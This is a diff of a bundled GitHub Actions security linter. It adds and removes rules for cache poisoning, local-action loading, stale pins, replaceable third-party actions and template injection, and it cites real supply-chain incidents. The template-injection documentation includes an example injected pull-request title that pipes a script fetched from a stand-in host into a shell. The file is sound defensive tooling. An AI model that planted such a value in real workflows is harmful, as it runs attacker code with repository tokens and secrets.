-    off: { remove: true, orSet: { input: "package-manager-cache", value: "false" } },
-    source: 'actions/setup-node README, "Caching global packages data"; v5 release notes'
-  },
-  { name: "actions/setup-python", input: "cache", defaultOn: never, semantics: "nonempty", off: { remove: true }, source: "actions/setup-python action.yml" },
-  { name: "actions/setup-java", input: "cache", defaultOn: never, semantics: "nonempty", off: { remove: true }, source: "actions/setup-java action.yml" },
-  { name: "actions/setup-dotnet", input: "cache", defaultOn: never, semantics: "truthy", off: { set: "false" }, source: "actions/setup-dotnet action.yml" },
-  { name: "actions/setup-go", input: "cache", defaultOn: (major) => major === null || major >= 4, semantics: "truthy", off: { set: "false" }, source: "actions/setup-go action.yml (default true since v4)" },
-  { name: "astral-sh/setup-uv", input: "enable-cache", defaultOn: (major) => major === null || major >= 6, semantics: "truthy", off: { set: "false" }, source: "astral-sh/setup-uv action.yml (`auto`, the default since v6: on for GitHub-hosted runners)" },
-  { name: "swatinem/rust-cache", input: null, defaultOn: always, semantics: "truthy", off: null, source: "Swatinem/rust-cache README" },
-  { name: "ruby/setup-ruby", input: "bundler-cache", defaultOn: never, semantics: "truthy", off: { set: "false" }, source: "ruby/setup-ruby action.yml" },
-  { name: "pyo3/maturin-action", input: "sccache", defaultOn: never, semantics: "truthy", off: { set: "false" }, source: "PyO3/maturin-action action.yml" },
-  { name: "mozilla-actions/sccache-action", input: null, defaultOn: always, semantics: "truthy", off: null, source: "mozilla-actions/sccache-action README" },
-  { name: "nix-community/cache-nix-action", input: null, defaultOn: always, semantics: "truthy", off: null, source: "nix-community/cache-nix-action README" },
-  { name: "awalsh128/cache-apt-pkgs-action", input: null, defaultOn: always, semantics: "truthy", off: null, source: "awalsh128/cache-apt-pkgs-action README" },
-  { name: "gradle/actions/setup-gradle", input: "cache-disabled", defaultOn: always, semantics: "inverted", off: { set: "true" }, source: "gradle/actions setup-gradle action.yml" },
-  { name: "gradle/gradle-build-action", input: "cache-disabled", defaultOn: always, semantics: "inverted", off: { set: "true" }, source: "gradle/gradle-build-action action.yml" },
-  { name: "jdx/mise-action", input: "cache", defaultOn: always, semantics: "truthy", off: { set: "false" }, source: "jdx/mise-action action.yml" },
-  { name: "denoland/setup-deno", input: "cache", defaultOn: never, semantics: "truthy", off: { set: "false" }, source: "denoland/setup-deno action.yml (v2)" },
-  { name: "pdm-project/setup-pdm", input: "cache", defaultOn: never, semantics: "truthy", off: { set: "false" }, source: "pdm-project/setup-pdm action.yml" },
-  { name: "prefix-dev/setup-pixi", input: "cache", defaultOn: () => "conditional", semantics: "truthy", off: { set: "false" }, source: "prefix-dev/setup-pixi README (on when a lock file exists)" },
-  { name: "oven-sh/setup-bun", input: "no-cache", defaultOn: () => false, semantics: "inverted", off: null, source: "oven-sh/setup-bun action.yml (caches the bun binary only)" }
-];
-var byName2 = new Map(CACHE_ACTIONS.map((action) => [action.name, action]));
-function cacheAction(name) {
-  return byName2.get(name.toLowerCase());
-}
-function cacheEnabled(action, value, major) {
-  if (action.input === null) return action.defaultOn(major);
-  if (value === null) return action.defaultOn(major);
-  const text = value.trim();
-  if (text.includes("${{")) return "unknown";
-  const lower2 = text.toLowerCase();
-  if (action.semantics === "inverted") return lower2 === "true" ? false : lower2 === "false" ? true : action.defaultOn(major);
-  if (action.semantics === "nonempty") return lower2 !== "" && lower2 !== "false";
-  if (lower2 === "auto") return true;
-  return lower2 === "true";
-}
-
-// server/src/knowledge/pr-checkout.ts
-var PR_REF = /github\.event\.pull_request\.head\.(sha|ref)|github\.event\.pull_request\.merge_commit_sha|github\.head_ref|github\.event\.workflow_run\.head_(sha|branch)|github\.event\.workflow_run\.pull_requests|refs\/pull\/|github\.event\.issue\.number|github\.event\.number|github\.event\.pull_request\.number|pull\/\$\{\{|steps\.[\w-]+\.outputs\.[\w-]*(head|sha|ref|pr|branch)/i;
-var PR_REPO = /github\.event\.pull_request\.head\.repo\.(full_name|name|clone_url)|github\.event\.workflow_run\.head_repository\.(full_name|clone_url)|steps\.[\w-]+\.outputs\.[\w-]*repo/i;
-function checkoutOf(file, step) {
-  const action = stepAction(file, step);
-  if (action?.name === "actions/checkout") {
-    const ref2 = step.with.get("ref");
-    const repository = step.with.get("repository");
-    const refText = input(step, "ref") ?? "";
-    const repoText = input(step, "repository") ?? "";
-    const path = input(step, "path");
-    const inSubdirectory = path !== null && !/^(\.\/?|\$\{\{\s*github\.workspace\s*\}\})$/.test(path.trim());
-    if (ref2 && PR_REF.test(refText)) return { step, span: ref2.valueSpan, how: `\`ref: ${refText.trim()}\``, inSubdirectory, path: inSubdirectory ? path : null };
-    if (repository && PR_REPO.test(repoText)) return { step, span: repository.valueSpan, how: `\`repository: ${repoText.trim()}\``, inSubdirectory, path: inSubdirectory ? path : null };
-  }
-  return null;
-}
-function shellCheckout(command) {
-  const words2 = command.argv.map((word) => word.text);
-  if ((command.name === "gh" || command.name === "hub") && words2[1] === "pr" && words2[2] === "checkout") return `\`${command.name} pr checkout\``;
-  if (command.name === "git" && words2[1] === "fetch" && args(command).some((word) => /(^|:|\/)pull\/|refs\/pull\//.test(word.text))) return "`git fetch` of the pull request ref";
-  if (command.name === "git" && (words2[1] === "checkout" || words2[1] === "switch" || words2[1] === "reset") && args(command).some((word) => PR_REF.test(word.text) || word.text === "FETCH_HEAD")) return "`git checkout` of the pull request head";
-  if (command.name === "git" && (words2[1] === "pull" || words2[1] === "merge") && args(command).some((word) => PR_REF.test(word.text) || PR_REPO.test(word.text))) return `\`git ${words2[1]}\` of the pull request`;
-  return null;
-}
-function untrustedCheckouts(file, workflow, job) {
-  void workflow;
-  const found = [];
-  const scripts = runScriptsOf(file, job);
-  for (const step of job.steps) {
-    const checkout = checkoutOf(file, step);
-    if (checkout) {
-      found.push(checkout);
-      continue;
-    }
-    for (const run2 of scripts) {
-      if (run2.step !== step) continue;
-      for (const command of run2.script.commands) {
-        const how = shellCheckout(command);
-        if (how) {
-          found.push({ step, span: run2.sourceSpan(command.span), how, inSubdirectory: false, path: null });
-          break;
-        }
-      }
-    }
-  }
-  return found;
-}
-var BUILD_SUBCOMMANDS = {
-  npm: /^(install|i|ci|test|t|run|run-script|start|build|exec|rebuild|pack|publish|x)$/,
-  yarn: /^(install|test|run|build|exec|dlx|$)/,
-  pnpm: /^(install|i|test|run|build|exec|dlx|x|recursive|-r)$/,
-  bun: /^(install|i|test|run|build|x)$/,
-  npx: null,
-  make: null,
-  cmake: null,
-  ninja: null,
-  cargo: /^(build|test|run|check|clippy|bench|doc|install|nextest|xtask|publish|fmt)$/,
-  go: /^(build|test|run|generate|vet|install|mod)$/,
-  mvn: null,
-  mvnw: null,
-  gradle: null,
-  gradlew: null,
-  ant: null,
-  sbt: null,
-  bundle: /^(install|exec)$/,
-  rake: null,
-  composer: /^(install|update|run|run-script)$/,
-  dotnet: /^(build|test|run|restore|pack|publish)$/,
-  msbuild: null,
-  pytest: null,
-  tox: null,
-  nox: null,
-  "pre-commit": null,
-  poetry: /^(install|run|build)$/,
-  uv: /^(sync|run|build|pip)$/,
-  pdm: /^(install|sync|run|build)$/,
-  hatch: /^(run|build|test|env)$/,
-  docker: /^(build|compose|buildx)$/,
-  "docker-compose": null,
-  just: null,
-  task: null,
-  bazel: null,
-  deno: /^(run|task|test)$/,
-  node: null,
-  ruby: null,
-  perl: null,
-  php: null,
-  lerna: null,
-  nx: null,
-  turbo: null
-};
-function executes(command) {
-  const name = command.name;
-  const words2 = command.argv.map((word) => word.text);
-  if (!name) return null;
-  if (/^\.{1,2}\//.test(command.argv[0].text) || name.endsWith(".sh") && command.argv[0].text.includes("/")) return `\`${command.argv[0].text}\``;
-  if ((name === "bash" || name === "sh" || name === "zsh" || name === "pwsh" || name === "source" || name === ".") && words2[1] && !words2[1].startsWith("-") && !/^\$\{\{/.test(words2[1])) return `\`${name} ${words2[1]}\``;
-  if (name.startsWith("python")) {
-    if (words2[1] === "-m" && /^(pip|build|pytest|tox|nox|setuptools)$/.test(words2[2] ?? "")) return words2[2] === "pip" && !args(command).some((word) => /^(\.|\.\[.*\]|-e|-r|--editable|--requirement)$/.test(word.text)) ? null : `\`python -m ${words2[2]}\``;
-    if (words2[1] && !words2[1].startsWith("-")) return `\`${words2.slice(0, 2).join(" ")}\``;
-    return null;
-  }
-  if (name === "pip" || name === "pip3") return args(command).some((word) => /^(\.|\.\[.*\]|\.\/.*|-e|-r|--editable|--requirement)$/.test(word.text)) ? `\`${words2.slice(0, 3).join(" ")}\`` : null;
-  if (!(name in BUILD_SUBCOMMANDS)) return null;
-  const sub = BUILD_SUBCOMMANDS[name];
-  if (sub && !sub.test(words2[1] ?? "")) return null;
-  return `\`${words2.slice(0, sub ? 2 : 1).join(" ")}\``;
-}
-var BUILDING_ACTIONS = /* @__PURE__ */ new Set([
-  "github/codeql-action/autobuild",
-  "docker/build-push-action",
-  "gradle/gradle-build-action",
-  "gradle/actions/setup-gradle",
-  "pre-commit/action",
-  "borales/actions-yarn",
-  "bahmutov/npm-install",
-  "cypress-io/github-action",
-  "pypa/cibuildwheel",
-  "pyo3/maturin-action",
-  "goreleaser/goreleaser-action",
-  "ruby/setup-ruby"
-]);
-function executionsAfter(file, job, from, checkout) {
-  const found = [];
-  const scripts = runScriptsOf(file, job);
-  for (const step of job.steps) {
-    if (step.index < from.index) continue;
-    if (step.index > from.index) {
-      const local = localActionPath(file, step);
-      if (local !== null && !(checkout?.inSubdirectory ?? false)) found.push({ step, span: step.uses.valueSpan, what: `the local action \`${step.uses ? file.text.slice(step.uses.valueSpan.start, step.uses.valueSpan.end) : local}\`` });
-      const action = stepAction(file, step);
-      if (action && BUILDING_ACTIONS.has(action.name) && (action.name !== "ruby/setup-ruby" || /^true$/i.test((input(step, "bundler-cache") ?? "").trim()))) {
-        found.push({ step, span: action.site.entry.valueSpan, what: `\`${action.name}\`` });
-      }
-    }
-    for (const run2 of scripts) {
-      if (run2.step !== step) continue;
-      for (const command of run2.script.commands) {
-        if (step.index === from.index && command.span.start <= (fromCommandEnd(file, run2, checkout) ?? Infinity)) continue;
-        const what = executes(command);
-        if (what) {
-          found.push({ step, span: run2.sourceSpan(command.argv[0]?.span ?? command.span), what });
-          break;
-        }
-      }
-    }
-  }
-  return found;
-}
-function fromCommandEnd(file, run2, checkout) {
-  void file;
-  if (!checkout || checkout.step !== run2.step) return null;
-  for (const command of run2.script.commands) {
-    const span = run2.sourceSpan(command.span);
-    if (span.start >= checkout.span.start && span.end <= checkout.span.end + 1) return command.span.end;
-  }
-  return null;
-}
-
-// server/src/rules/cache-poisoning.ts
-function publishSignals(file, workflow, job) {
-  const signals = [];
-  for (const trigger of workflow.triggers) {
-    if (trigger.name === "release") signals.push({ strong: true, what: "the `release` trigger", span: trigger.span });
-    if (trigger.name === "push" && trigger.config) {
-      const tags = trigger.config.get("tags");
-      const branches = seqItems(asSeq(trigger.config.get("branches")?.value ?? null), workflow.doc).map((node) => scalarText(node) ?? "");
-      const onlyTags = tags && !trigger.config.has("branches") && !trigger.config.has("paths");
-      if (onlyTags) signals.push({ strong: true, what: "a tag push", span: tags.keySpan });
-      else if (branches.some((branch) => /release/i.test(branch))) signals.push({ strong: true, what: "a push to a release branch", span: trigger.span });
-    }
-  }
-  for (const step of job.steps) {
-    const action = stepAction(file, step);
-    const publisher = action && publisherAction(action.name);
-    if (publisher && action) {
-      if (publisher.when) {
-        const value = input(step, publisher.when);
-        if (value === null || /^(false|)$/i.test(value.trim())) continue;
-      }
-      signals.push({ strong: publisher.registry !== "pages", what: `\`${action.name}\``, span: action.site.entry.valueSpan });
-    }
-  }
-  for (const run2 of runScriptsOf(file, job)) {
-    for (const command of run2.script.commands) {
-      const publish = publishCommand(command);
-      if (publish && publish.registry !== "github-release") signals.push({ strong: true, what: `\`${publish.label}\``, span: run2.sourceSpan(command.span) });
-    }
-  }
-  if (hasIdTokenWrite(workflow, job)) {
-    const entry = job.permissions ?? workflow.permissions;
-    signals.push({ strong: false, what: "`id-token: write`", span: entry ? entry.keySpan : job.idSpan });
-  }
-  return signals;
-}
-var GUARD = /!\s*startsWith\(\s*github\.ref\s*,\s*'refs\/tags\/'\s*\)|github\.event_name\s*!=\s*'release'/;
-var cachePoisoning = {
-  id: "cache-poisoning",
-  title: "Cache restored in a publishing job, or written by an untrusted run",
-  kinds: ["workflow"],
-  severity: "high",
-  confidence: "low",
-  persona: "regular",
-  docs: {
-    summary: "A job that publishes (release or tag trigger, publisher action, publish command, `id-token: write`) restores a GitHub Actions cache, or a privileged-trigger job building pull request code writes one.",
-    why: "Caches are shared across a repository's runs: whoever can write an entry that the release job restores controls what gets built. In Ultralytics (2024) a poisoned cache went into the PyPI releases 8.3.41/42; in TanStack (2026, CVE-2026-45321) a `pull_request_target` build wrote the cache the release job restored, and 84 npm versions shipped with valid provenance. Cline (2026) was poisoned the same way through its nightly publish.",
-    fix: "Turn caching off in release and publish jobs (`enable-cache: false` for setup-uv, `cache: false` for setup-go, no `cache:` / `package-manager-cache: false` for setup-node, `ACTIONS_CACHE_MODE: none` in the job's `env:` for actions built on `@actions/cache` ≥ 6.2.0), and never build pull request code in a `pull_request_target` job."
-  },
-  check({ file, report }) {
-    const workflow = file.workflow;
-    if (!workflow) return;
-    const privileged = privilegedTriggers(workflow);
-    for (const job of workflow.jobs) {
-      if (!job.steps.some((step) => cacheAction(stepAction(file, step)?.name ?? ""))) continue;
-      const signals = publishSignals(file, workflow, job);
-      const untrusted = privileged.length > 0 ? untrustedCheckouts(file, workflow, job) : [];
-      if (signals.length === 0 && untrusted.length === 0) continue;
-      const strong = signals.some((signal) => signal.strong);
-      for (const step of job.steps) {
-        const action = stepAction(file, step);
-        const known = action && cacheAction(action.name);
-        if (!action || !known) continue;
-        const env = visibleEnv(file, job, step);
-        if ((env.get("ACTIONS_CACHE_MODE") ?? "").trim().toLowerCase() === "none") continue;
-        const guard = scalarText(step.if?.value ?? null) ?? "";
-        if (GUARD.test(guard)) continue;
-        const major = actionMajorVersion(file, action);
-        const value = known.input ? input(step, known.input) : null;
-        const enabled = cacheEnabled(known, value, major);
-        if (enabled === false) continue;
-        if (enabled === "conditional" && value === null) continue;
-        const control = known.input ? step.with.get(known.input) : void 0;
-        const span = control ? control.keySpan : action.site.entry.valueSpan;
-        const fixes = offFix(file, step, known, value, enabled);
-        const related2 = signals.slice(0, 3).map((signal) => ({ span: signal.span, message: `publishes: ${signal.what}` }));
-        if (untrusted.length > 0 && known.mode !== "restore") {
-          report({
-            span,
-            message: `\`${action.name}\` writes the cache of the base branch from a \`${privileged[0]}\` job that builds pull request code: the next job restoring that cache (a release, too) runs what the pull request put in it`,
-            severity: "high",
-            confidence: "medium",
-            related: [{ span: untrusted[0].span, message: "checks out pull request code" }, ...related2],
-            fixes
-          });
-          continue;
-        }
-        if (signals.length === 0 || known.mode === "save") continue;
-        const how = enabled === true ? "restores a cache" : enabled === "conditional" ? "may restore a cache (on by default when a lock file is found)" : "may restore a cache (caching is set by an expression)";
-        report({
-          span,
-          message: `\`${action.name}\` ${how} in job \`${job.id}\`, which publishes (${signals.map((signal) => signal.what).slice(0, 2).join(", ")}): a poisoned cache entry ends up in the release`,
-          confidence: strong && enabled === true ? "medium" : "low",
-          persona: enabled === "unknown" || !strong ? "pedantic" : "regular",
-          related: related2,
-          fixes
-        });
-      }
-    }
-  }
-};
-function offFix(file, step, known, value, enabled) {
-  if (!known.off || !known.input) return [];
-  let edits = null;
-  if ("set" in known.off) edits = setStepInput(file, step, known.input, known.off.set);
-  else if (value !== null) edits = setStepInput(file, step, known.input, "''");
-  else if (known.off.orSet && enabled === "conditional") edits = setStepInput(file, step, known.off.orSet.input, known.off.orSet.value);
-  if (!edits) return [];
-  const label = edits.length === 1 && edits[0].newText.includes("''") ? `\`${known.input}: ''\`` : "caching off";
-  return [{ title: `Turn the cache off (${label})`, isPreferred: true, safety: "unsafe", edits }];
-}
-
 // server/src/rules/secrets-inherit.ts
 var secretsInherit = {
   id: "secrets-inherit",
@@ -16005,6 +15126,7 @@ var secretsInherit = {
   severity: "medium",
   confidence: "high",
   persona: "regular",
+  online: false,
   docs: {
     summary: "`secrets: inherit` hands every secret of the repository (and its organisation) to the called workflow, whatever it needs.",
     why: "A reusable workflow that is compromised, or whose ref moves (as the tags of tj-actions/changed-files did in 2025, CVE-2025-30066), receives all of the caller's secrets at once. GhostAction (2025) exfiltrated 3,325 secrets from 817 repositories: each secret a workflow can reach is one more to lose.",
@@ -16035,6 +15157,7 @@ var secretsOutsideEnv = {
   severity: "medium",
   confidence: "high",
   persona: "auditor",
+  online: false,
   docs: {
     summary: "A job uses repository or organisation secrets (other than `GITHUB_TOKEN`) without an `environment:`, so nothing but a push to the workflow file stands between the secret and whoever can run the job.",
     why: "Secrets stored in a deployment environment are released only to jobs that name it, and only after its protection rules (required reviewers, allowed branches and tags) pass. In Nx s1ngularity (2025) and elementary-data (2026) a dispatchable or injectable workflow read publishing tokens straight from repository secrets; at spotbugs (2024) and Trivy (2026) the PAT sat in a `pull_request_target` job. Astral keeps every secret in an environment.",
@@ -16071,6 +15194,7 @@ var selfHostedRunner = {
   severity: "medium",
   confidence: "high",
   persona: "auditor",
+  online: false,
   docs: {
     summary: "A job runs on a self-hosted runner (a `self-hosted` label, a runner group, or labels from an expression). On triggers outsiders can fire this is a path to a persistent foothold in your network.",
     why: "Self-hosted runners are not wiped between jobs: code from one run can leave a backdoor for the next and reach whatever the machine can reach. The Shai-Hulud 2 worm (2025) registered victims' machines as self-hosted runners and drove them with a `discussion` workflow; Praetorian's and John Stawinski's 2024 research took over PyTorch's release infrastructure through fork pull requests running on its self-hosted runners.",
@@ -16130,6 +15254,738 @@ function selfHosted(value, matrix, doc) {
   return null;
 }
 
+// server/src/rules/self-repository.ts
+function checkoutKind(step) {
+  const uses = step.string("uses")?.value.toLowerCase() ?? "";
+  if (!uses.startsWith("actions/checkout@") && uses !== "actions/checkout") return null;
+  const inputs = step.with;
+  const repository = inputs.string("repository")?.value.trim();
+  if (repository && !/^\$\{\{\s*github\.repository\s*\}\}$/.test(repository)) return "other";
+  if (inputs.has("path")) return "other";
+  if (inputs.has("ref")) return "moved-ref";
+  return "same";
+}
+var selfRepository = {
+  id: "self-repository",
+  title: "Local action loaded from the workspace instead of the workflow's own commit",
+  kinds: ["workflow"],
+  severity: "low",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "`uses: ./path` runs whatever is at that path in the runner's workspace when the step starts; `uses: $/path` runs the action from the commit the workflow itself came from.",
+    why: "In the 2026 Trivy compromise (hackerbot-claw), a `pull_request_target` workflow checked out the pull request and then ran `uses: ./.github/actions/setup-go`: the \"local\" action was the attacker's code, running with the organisation's token. `./` also cannot satisfy GitHub's \"require full-length SHA\" policy. `$/` (GA July 2026) names the workflow's own repository and commit.",
+    fix: "Write `uses: $/path`. The quick fix is marked safe when the job checks out only its own repository at the default ref, and unsafe when an earlier checkout names a `ref:` (then `./` runs that ref's code and `$/` runs the workflow's commit — usually what you want, but review it)."
+  },
+  check({ file, report }) {
+    const workflow = file.workflow;
+    if (!workflow) return;
+    for (const site of file.uses) {
+      const reference = site.reference;
+      if (reference.kind !== "local" || reference.isReusableWorkflow || !site.job || !site.step || !site.exact) continue;
+      const raw = site.value.trim();
+      if (!raw.startsWith("./") || raw.startsWith("./..") || raw === "./") continue;
+      const before = site.job.steps.slice(0, site.step.index).map(checkoutKind).filter((kind) => kind !== null);
+      if (before.includes("other")) continue;
+      const safe = before.length > 0 && before.every((kind) => kind === "same");
+      const leading = site.value.length - site.value.trimStart().length;
+      const span = { start: site.valueStart + leading, end: site.valueStart + leading + raw.length };
+      const replacement = `$/${raw.slice(2)}`;
+      report({
+        span: { start: span.start, end: span.start + 2 },
+        message: before.includes("moved-ref") ? `\`${raw}\` runs the action from the ref checked out earlier in job \`${site.job.id}\`, not from this workflow's commit: use \`${replacement}\`` : `\`${raw}\` loads the action from the workspace; \`${replacement}\` loads it from this workflow's own commit and satisfies SHA-pinning policies`,
+        fixes: [{ title: `Use \`${replacement}\``, isPreferred: true, safety: safe ? "safe" : "unsafe", edits: [{ span: { start: span.start, end: span.start + 2 }, newText: "$/" }] }]
+      });
+    }
+  }
+};
+
+// server/src/rules/stale-action-refs.ts
+function checkStaleActionRefs({ file, online, report }) {
+  if (!online.available) return;
+  const snapshot = online.value;
+  for (const { site, uses, refs } of resolvedUses(file.uses, snapshot, "sha-pins")) {
+    if (refs.tags.length === 0 || tagsAt(refs, uses.ref).length > 0) continue;
+    report({
+      span: refOrValueSpan(site, uses),
+      message: `No tag of ${uses.repository} points at ${uses.ref.slice(0, 12)}…: \`${usesTarget(uses)}\` runs unreleased code`
+    });
+  }
+}
+var staleActionRefs = {
+  id: "stale-action-refs",
+  title: "Pinned commit is not a release",
+  kinds: ["workflow", "action"],
+  severity: "low",
+  confidence: "high",
+  persona: "pedantic",
+  online: true,
+  docs: {
+    summary: "A `uses:` pinned to a commit that no tag points at (online check).",
+    why: "Commits between releases have not been through the maintainers' release process, and tools that keep pins fresh (Dependabot, Renovate) cannot tell which version they are. Unreleased commits are also how impostor and compromised commits usually look.",
+    fix: "Pin to the commit of a release tag with its `# vX.Y.Z` comment."
+  },
+  check: checkStaleActionRefs
+};
+
+// server/src/rules/superfluous-actions.ts
+var SUPERFLUOUS = /* @__PURE__ */ new Map([
+  ["actions/create-release", { replacement: "`gh release create`", persona: "regular" }],
+  ["actions/upload-release-asset", { replacement: "`gh release upload`", persona: "regular" }],
+  ["softprops/action-gh-release", { replacement: "`gh release create` / `gh release upload`", persona: "pedantic" }],
+  ["ncipollo/release-action", { replacement: "`gh release create`", persona: "pedantic" }],
+  ["svenstaro/upload-release-action", { replacement: "`gh release upload`", persona: "pedantic" }],
+  ["andstor/file-existence-action", { replacement: "`test -e <path>` in a `run:` step", persona: "regular" }],
+  ["dcarbone/install-jq-action", { replacement: "the preinstalled `jq`", persona: "regular" }],
+  ["sergeysova/jq-action", { replacement: "the preinstalled `jq`", persona: "regular" }],
+  ["mikefarah/yq", { replacement: "the preinstalled `yq`", persona: "pedantic" }],
+  ["juliangruber/read-file-action", { replacement: "`cat` into `$GITHUB_OUTPUT`", persona: "regular" }],
+  ["stefanzweifel/git-auto-commit-action", { replacement: "`git commit` and `git push`", persona: "pedantic" }],
+  ["endbug/add-and-commit", { replacement: "`git add`, `git commit` and `git push`", persona: "pedantic" }],
+  ["ad-m/github-push-action", { replacement: "`git push`", persona: "pedantic" }],
+  ["actions-ecosystem/action-add-labels", { replacement: "`gh issue edit --add-label` / `gh pr edit --add-label`", persona: "pedantic" }],
+  ["peter-evans/repository-dispatch", { replacement: "`gh api repos/{owner}/{repo}/dispatches`", persona: "pedantic" }],
+  ["benc-uk/workflow-dispatch", { replacement: "`gh workflow run`", persona: "pedantic" }]
+]);
+var superfluousActions = {
+  id: "superfluous-actions",
+  title: "Action that a preinstalled tool replaces",
+  kinds: ["workflow", "action"],
+  severity: "informational",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "A `uses:` pulls in third-party code for something `gh`, `git`, `jq`, `yq` or the shell on GitHub-hosted runners already do.",
+    why: "Every action is code from another owner running with your job's token and secrets; each one is a place where a moved tag or hijacked account (tj-actions/changed-files and reviewdog in 2025) reaches you. A one-line `gh` or `git` command has no such supply chain.",
+    fix: "Replace the step with the command the message names (with `GH_TOKEN: ${{ github.token }}` in `env:` for `gh`)."
+  },
+  check({ file, report }) {
+    for (const site of file.uses) {
+      const reference = site.reference;
+      if (reference.kind !== "remote" || reference.subpath !== null) continue;
+      const entry = SUPERFLUOUS.get(reference.repository.toLowerCase());
+      if (!entry) continue;
+      const end = reference.ref === null ? site.value.length : reference.refStart - 1;
+      const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
+      report({ span, message: `\`${usesTarget(reference)}\` can be replaced by ${entry.replacement}, with no third-party code in the job`, persona: entry.persona });
+    }
+  }
+};
+
+// server/src/knowledge/code-sinks.ts
+var CODE_SINKS = [
+  { action: "actions/github-script", inputs: ["script"], language: "javascript" },
+  { action: "cardinalby/js-eval-action", inputs: ["expression"], language: "javascript" },
+  { action: "azure/cli", inputs: ["inlinescript"], language: "shell" },
+  { action: "azure/powershell", inputs: ["inlinescript"], language: "pwsh" },
+  { action: "amadevus/pwsh-script", inputs: ["script"], language: "pwsh" },
+  { action: "jannekem/run-python-script-action", inputs: ["script"], language: "python" },
+  { action: "mikefarah/yq", inputs: ["cmd"], language: "yq" },
+  { action: "appleboy/ssh-action", inputs: ["script"], language: "shell" },
+  { action: "garygrossgarten/github-action-ssh", inputs: ["command"], language: "shell" },
+  { action: "addnab/docker-run-action", inputs: ["run"], language: "shell" },
+  { action: "cloudflare/wrangler-action", inputs: ["command", "precommands", "postcommands"], language: "shell" },
+  { action: "nick-fields/retry", inputs: ["command", "on_retry_command"], language: "shell" },
+  { action: "aws-actions/aws-cli", inputs: ["command"], language: "shell" },
+  { action: "docker://", inputs: ["entrypoint", "args"], language: "other" }
+];
+function codeSinkFor(owner, repo, path) {
+  return findAction(CODE_SINKS, owner, repo, path);
+}
+
+// server/src/fixes/verify.ts
+var OPTIONS = { keepSourceTokens: false, uniqueKeys: true, prettyErrors: false, strict: true };
+function errorCodes(text) {
+  try {
+    return parseDocument(text, OPTIONS).errors.map((error) => error.code);
+  } catch {
+    return null;
+  }
+}
+function editsKeepYamlValid(text, region, edits) {
+  if (edits.length === 0) return true;
+  let start = Math.min(region.start, ...edits.map((edit) => edit.span.start));
+  let end = Math.max(region.end, ...edits.map((edit) => edit.span.end));
+  start = text.lastIndexOf("\n", start - 1) + 1;
+  if (end === 0 || text[end - 1] !== "\n") {
+    const lineEnd = text.indexOf("\n", end);
+    end = lineEnd === -1 ? text.length : lineEnd + 1;
+  }
+  const fragment = text.slice(start, end);
+  const shifted = edits.map((edit) => ({ span: { start: edit.span.start - start, end: edit.span.end - start }, newText: edit.newText }));
+  let edited;
+  try {
+    edited = applyEdits(fragment, shifted);
+  } catch {
+    return false;
+  }
+  const before = errorCodes(fragment);
+  const after = errorCodes(edited);
+  if (!before || !after) return false;
+  if (after.length === 0) return true;
+  return after.length <= before.length && after.every((code) => before.includes(code));
+}
+
+// server/src/rules/template-injection.ts
+function stepShell(scope, step) {
+  const own = step.shell?.value ?? scope.job?.child("defaults").child("run").string("shell")?.value ?? scope.file.workflow?.child("defaults").child("run").string("shell")?.value;
+  if (own) return own.trim().split(/\s+/)[0].toLowerCase();
+  const runsOn = scalarText(scope.job?.runsOn?.value ?? null) ?? "";
+  return /windows/i.test(runsOn) ? "pwsh" : "bash";
+}
+function runLanguage(scope, step) {
+  const shell = stepShell(scope, step);
+  return shell === "pwsh" || shell === "powershell" ? "pwsh" : shell === "cmd" ? "cmd" : shell === "python" ? "python" : "bash";
+}
+function sinkOf(file, site, scope) {
+  const step = scope.step;
+  if (!step) return null;
+  const path = site.path;
+  const base2 = file.workflow ? 4 : 3;
+  if (path.length === base2 + 1 && path[base2] === "run") {
+    const entry = step.run;
+    if (!entry) return null;
+    return { kind: "run", language: null, label: "this `run:` script", entry };
+  }
+  if (path.length === base2 + 2 && path[base2] === "with" && typeof path[base2 + 1] === "string") {
+    const uses = scalarText(step.uses?.value ?? null);
+    if (!uses) return null;
+    const reference = parseUses(uses);
+    const input2 = String(path[base2 + 1]);
+    const entry = step.with.get(input2);
+    if (!entry) return null;
+    if (reference.kind === "docker") return ["entrypoint", "args"].includes(input2.toLowerCase()) ? { kind: "input", language: "other", label: `\`${input2}\` of a container step`, entry } : null;
+    if (reference.kind !== "remote") return null;
+    const sink = codeSinkFor(reference.owner, reference.repo, reference.subpath);
+    if (!sink || !sink.inputs.includes(input2.toLowerCase())) return null;
+    return { kind: "input", language: sink.language, label: `\`${input2}\` of ${reference.repository}, which runs it as code`, entry };
+  }
+  return null;
+}
+var templateInjection = {
+  id: "template-injection",
+  title: "Untrusted text expanded into code",
+  kinds: ["workflow", "action"],
+  severity: "high",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "A `${{ }}` expression whose value someone else chooses is pasted into a `run:` script or into an input that an action runs as code, before the shell or interpreter reads it.",
+    why: "Expressions are substituted into the script text before it runs, so a pull request title such as `\"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action's `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.",
+    fix: 'Pass the value through an environment variable: add `NAME: ${{ <expression> }}` to the step\'s `env:` and use `"$NAME"` (bash), `$env:NAME` (PowerShell), `%NAME%` (cmd) or `process.env.NAME` (github-script). The quick fix does this for single-context expressions.'
+  },
+  check({ file, report }) {
+    const base2 = file.workflow ? 4 : 3;
+    for (const site of file.expressions) {
+      if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
+      const path = site.path;
+      if (!(path.length === base2 + 1 && path[base2] === "run") && !(path.length === base2 + 2 && path[base2] === "with")) continue;
+      const scope = scopeOf(file, path);
+      const sink = sinkOf(file, site, scope);
+      if (!sink) continue;
+      const leaves = assessSite(site, scope);
+      if (leaves.length === 0) continue;
+      const single = singleContext(site);
+      for (const leaf of leaves) {
+        const { verdict: verdict2 } = leaf;
+        const step = scope.step;
+        const canMove = single !== null && leaves.length === 1 && step !== null && step !== void 0;
+        const fixes = () => {
+          const fix = canMove ? moveToEnv(file, site, sink, sink.language ?? runLanguage(scope, step), step, normalizeContextPath(single.path) === normalizeContextPath(leaf.path) ? single.path : null) : null;
+          return fix ? [fix] : [];
+        };
+        report({
+          span: { start: leaf.start, end: leaf.end },
